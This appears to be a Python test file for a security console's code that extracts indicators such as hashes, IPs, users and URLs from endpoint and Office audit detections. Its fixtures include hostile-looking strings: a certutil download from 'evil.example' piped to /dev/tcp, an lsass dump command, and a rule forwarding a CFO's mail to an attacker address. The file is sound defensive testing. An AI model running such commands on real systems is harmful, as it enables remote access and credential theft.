"""What a detection speaks of: values to pivot on, and its event in words, of whatever shape it comes in."""

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from console.sandbox.rules import BASELINE
from console.sandbox.world import World
from store import observables as subject
from store.observables import KINDS, event_words, folded, kind_of, observables

SHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
SHA1 = "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3"
MD5 = "098f6bcd4621d373cade4e832627b4f6"


def _record(event: Any, data: Any = None, **routing: Any) -> dict[str, Any]:
    return {
        "routing": {"hostname": "acme-fs01", "event_type": "NEW_PROCESS", **routing},
        "detect": {"event": event, "routing": {"event_type": "NEW_PROCESS"}},
        "detect_data": data or {},
    }


def _values(record: Any) -> set[tuple[str, str]]:
    return {(kind, str(value)) for kind, value in observables(record)}


# What an event holds


def test_a_process_gives_its_hashes_paths_user_host_addresses_and_command_line() -> None:
    event = {
        "FILE_PATH": "C:\\Windows\\System32\\cmd.exe",
        "COMMAND_LINE": "cmd.exe /c whoami",
        "USER_NAME": "ACME\\svc-backup",
        "HASH": SHA256,
        "PARENT": {"FILE_PATH": "C:\\Office\\WINWORD.EXE", "HASH": SHA1, "PROCESS_ID": 7},
    }
    record = _record(event, {"process": "cmd.exe"}, ext_ip="203.0.113.25", int_ip="10.8.4.17")
    assert _values(record) == {
        ("hash", SHA256), ("hash", SHA1), ("host", "acme-fs01"), ("address", "203.0.113.25"),
        ("address", "10.8.4.17"), ("user", "ACME\\svc-backup"), ("path", "C:\\Windows\\System32\\cmd.exe"),
        ("path", "C:\\Office\\WINWORD.EXE"), ("path", "cmd.exe"), ("command", "cmd.exe /c whoami"),
    }  # fmt: skip


def test_values_come_by_kind_in_the_order_of_kinds() -> None:
    found = observables(
        _record({"COMMAND_LINE": "x y", "USER_NAME": "u", "HASH": MD5, "DOMAIN_NAME": "a.example"})
    )
    assert [each.kind for each in found] == sorted((each.kind for each in found), key=KINDS.index)


def test_connections_give_the_addresses_of_both_sides() -> None:
    activity = [
        {
            "SOURCE": {"IP_ADDRESS": "10.0.0.5", "PORT": 50000},
            "DESTINATION": {"IP_ADDRESS": "198.51.100.9", "PORT": 443},
            "IS_OUTGOING": 1,
        },
        {"SOURCE": {"IP_ADDRESS": "10.0.0.5"}, "DESTINATION": {"IP_ADDRESS": "2001:DB8::1"}},
    ]
    event = {"NETWORK_ACTIVITY": activity, "FILE_PATH": "/usr/bin/curl", "USER_NAME": "root"}
    assert {value for kind, value in _values(_record(event)) if kind == "address"} == {
        "10.0.0.5", "198.51.100.9", "2001:DB8::1",
    }  # fmt: skip
    assert event_words(_record(event)).address == "198.51.100.9:443"


def test_a_name_that_was_resolved_is_a_domain_with_its_address() -> None:
    event = {"DOMAIN_NAME": "c2.evil.example.", "IP_ADDRESS": "198.51.100.7", "DNS_TYPE": 1}
    assert _values(_record(event)) >= {("domain", "c2.evil.example."), ("address", "198.51.100.7")}
    assert event_words(_record(event)).domain == "c2.evil.example."


def test_a_windows_event_log_gives_what_sysmon_and_security_write() -> None:
    data = {
        "Image": "C:\\a.exe", "ParentImage": "C:\\b.exe", "CommandLine": "a.exe -x", "User": "ACME\\kim",
        "Hashes": f"SHA1={SHA1},MD5={MD5},SHA256={SHA256}", "DestinationIp": "::ffff:198.51.100.7",
        "TargetUserName": "-", "ProcessGuid": "{01234567-0123-0123-0123-012345678901}",
    }  # fmt: skip
    event = {"EVENT": {"System": {"EventID": "1", "Computer": "fs01.acme.example"}, "EventData": data}}
    found = _values(_record(event))
    assert {("hash", SHA1), ("hash", MD5), ("hash", SHA256), ("host", "fs01.acme.example")} <= found
    assert ("address", "::ffff:198.51.100.7") in found
    assert ("user", "-") not in found
    words = event_words(_record(event))
    assert (words.command_line, words.parent, words.hash, words.operation) == (
        "a.exe -x",
        "C:\\b.exe",
        SHA256,
        "1",
    )


def test_an_audit_log_of_office_gives_user_and_address_and_where_mail_is_sent() -> None:
    event = {
        "Operation": "New-InboxRule", "UserId": "cfo@acme.example", "ClientIP": "[2001:db8::7]:443",
        "Parameters": [{"Name": "ForwardTo", "Value": "archive@evil.example"}],
    }  # fmt: skip
    assert _values(_record(event)) >= {
        ("user", "cfo@acme.example"), ("user", "archive@evil.example"), ("address", "[2001:db8::7]:443"),
    }  # fmt: skip
    words = event_words(_record(event))
    assert (words.user, words.operation) == ("cfo@acme.example", "New-InboxRule")


def test_a_command_line_gives_the_url_the_domain_and_the_addresses_in_it() -> None:
    event = {"COMMAND_LINE": 'certutil -f "http://evil.example:8080/a.txt" > /dev/tcp/192.0.2.7/4444'}
    assert _values(_record(event)) >= {
        ("url", "http://evil.example:8080/a.txt"), ("domain", "evil.example"), ("address", "192.0.2.7"),
    }  # fmt: skip


def test_a_changed_file_names_the_program_that_changed_it() -> None:
    event = {"FILE_PATH": "/etc/cron.d/x", "REGISTRY_KEY": "", "PROCESS": {"FILE_PATH": "/usr/bin/cp"}}
    words = event_words(_record(event))
    assert (words.path, words.parent, words.registry) == ("/etc/cron.d/x", "/usr/bin/cp", "")


def test_events_that_belong_together_tell_the_first_ones_command_line() -> None:
    event = {
        "EVENTS": [{"routing": {}, "event": {"COMMAND_LINE": "tool -ma lsass", "FILE_PATH": "C:\\t.exe"}}],
        "TARGET": {"FILE_PATH": "C:\\Windows\\System32\\lsass.exe"},
    }
    words = event_words(_record(event))
    assert (words.command_line, words.target) == ("tool -ma lsass", "C:\\Windows\\System32\\lsass.exe")


def test_a_bare_payload_and_a_wrapped_detection_are_read_alike() -> None:
    bare = {"routing": {"hostname": "h"}, "detect": {"HASH": SHA256, "FILE_PATH": "/bin/x"}}
    assert _values(bare) == _values({"action": "report", "data": bare})
    assert event_words(bare).path == "/bin/x"


def test_every_rule_of_the_sandbox_gives_its_indicators_and_words() -> None:
    world, seen = World(seed=3), set()
    for index, organization in enumerate(world.organizations):
        for number in range(min(60, organization.detections)):
            record = world.detections.detection(index, number)
            if record["cat"] in seen:
                continue
            seen.add(record["cat"])
            found = {value for _, value in _values(record)}
            for name, value in record["detect_data"].items():
                assert name == "task" or value in found or value.endswith("...") or "\x1b" in value, (
                    name,
                    value,
                )
            words = event_words(record)
            assert words.host == record["routing"]["hostname"]
            assert words.path or words.user or words.domain or words.address or words.registry
        if len(seen) == len(BASELINE) - 1:
            break
    assert len(seen) >= len(BASELINE) - 3


# What is no value


def test_ids_of_events_and_atoms_are_not_hashes() -> None:
    event = {"this": MD5, "id": MD5, "routing": {"parent": MD5}, "CorrelationId": MD5, "note": f"x{MD5}"}
    assert _values(_record(event, this=MD5, parent=MD5, sid=MD5)) == {("host", "acme-fs01")}


def test_an_unknown_field_counts_by_its_shape_alone() -> None:
    event = {
        "x": SHA256,
        "y": "198.51.100.7",
        "z": "some.name",
        "w": "1.2.3",
        "v": "12:30",
        "u": "http://a.example/b",
    }
    assert _values(_record(event)) - {("host", "acme-fs01")} == {
        ("hash", SHA256), ("address", "198.51.100.7"), ("url", "http://a.example/b"), ("domain", "a.example"),
    }  # fmt: skip


@pytest.mark.parametrize("value", ["", "-", "N/A", "null", "0.0.0.0", "::", "127.0.0.1", "::1", "0" * 64])
def test_what_says_nothing_is_left_out(value: str) -> None:
    event = {"HASH": value, "IP_ADDRESS": value, "USER_NAME": value if value[:1] not in "0:1" else ""}
    assert _values(_record(event)) == {("host", "acme-fs01")}


# One spelling


@pytest.mark.parametrize(
    ("kind", "one", "other"),
    [
        ("hash", SHA256, SHA256.upper()),
        ("host", "ACME-FS01", "acme-fs01."),
        ("address", "2001:DB8:0:0::1", "[2001:db8::1]:443"),
        ("address", "::ffff:192.0.2.7", "192.0.2.7:80"),
        ("user", "ACME\\Kim", "acme\\kim"),
        ("domain", "Evil.Example.", "evil.example"),
        ("path", '"C:\\Windows\\CMD.exe"', "c:\\windows\\cmd.exe"),
        ("command", "cmd  /c\twhoami", "CMD /c whoami"),
        ("url", "HTTP://Evil.example/a", "http://evil.example/a"),
    ],
)
def test_two_spellings_of_one_value_fold_to_the_same(kind: str, one: str, other: str) -> None:
    assert folded(kind, one) == folded(kind, other) != ""


def test_one_value_in_two_spellings_is_named_once() -> None:
    assert (
        len(
            [
                1
                for kind, _ in observables(_record({"HASH": SHA256}, {"hash": SHA256.upper()}))
                if kind == "hash"
            ]
        )
        == 1
    )


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        (SHA256, "hash"), (MD5.upper(), "hash"), ("192.0.2.7", "address"), ("2001:db8::7", "address"),
        ("evil.example", "domain"), ("acme-fs01", "host"), ("ACME\\kim", "user"), ("kim@acme.example", "user"),
        ("C:\\Windows\\cmd.exe", "path"), ("/usr/bin/vim", "path"), ("C:\\Program Files\\x.exe", "path"),
        ("cmd.exe", "path"), ("cmd.exe /c whoami", "command"), ("https://a.example/b", "url"),
    ],
)  # fmt: skip
def test_a_typed_value_says_what_it_is(value: str, kind: str) -> None:
    assert kind_of(value) == kind
    assert folded(kind, value)


# Odd shapes


_json = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text() | st.sampled_from([MD5, "1.2.3.4", "http://[", "a@b"]),
    lambda inner: st.lists(inner, max_size=4)
    | st.dictionaries(
        st.text(max_size=3)
        | st.sampled_from(
            ["HASH", "IP_ADDRESS", "COMMAND_LINE", "EVENT", "EventData", "System", "PARENT", "NETWORK_ACTIVITY", "EVENTS",
             "event", "Target", "Hashes", "PROCESS_ID", "url", "domain", "EventID", "SOURCE"]
        ),
        inner,
        max_size=4,
    ),
    max_leaves=20,
)  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(_json, _json, _json)
def test_no_shape_raises(event: Any, routing: Any, data: Any) -> None:
    for record in (
        {"detect": {"event": event}, "routing": routing, "detect_data": data},
        {"detect": event},
        event,
    ):
        for kind, value in observables(record):
            assert kind in KINDS
            assert folded(kind, value)
            assert value.encode()
        event_words(record)


def test_depth_count_and_length_have_bounds() -> None:
    deep: Any = {"HASH": SHA256}
    for _ in range(10_000):
        deep = {"a": deep}
    assert _values(_record(deep)) == {("host", "acme-fs01")}
    wide = {f"f{number}": f"198.51.{number // 200}.{number % 200}" for number in range(5_000)}
    assert len(observables(_record(wide))) == subject.KEPT
    long = observables(_record({"COMMAND_LINE": "x " * 1_000_000}))
    assert all(len(value) <= subject.LONGEST for _, value in long)


def test_a_surrogate_and_a_nul_become_what_both_engines_hold() -> None:
    found = _values(_record({"FILE_PATH": "C:\\a\ud800\0.exe"}))
    assert ("path", "C:\\a\\ud800\\x00.exe") in found
    assert folded("path", "C:\\a\ud800\0.exe") == folded("path", "C:\\a\\ud800\\x00.exe")
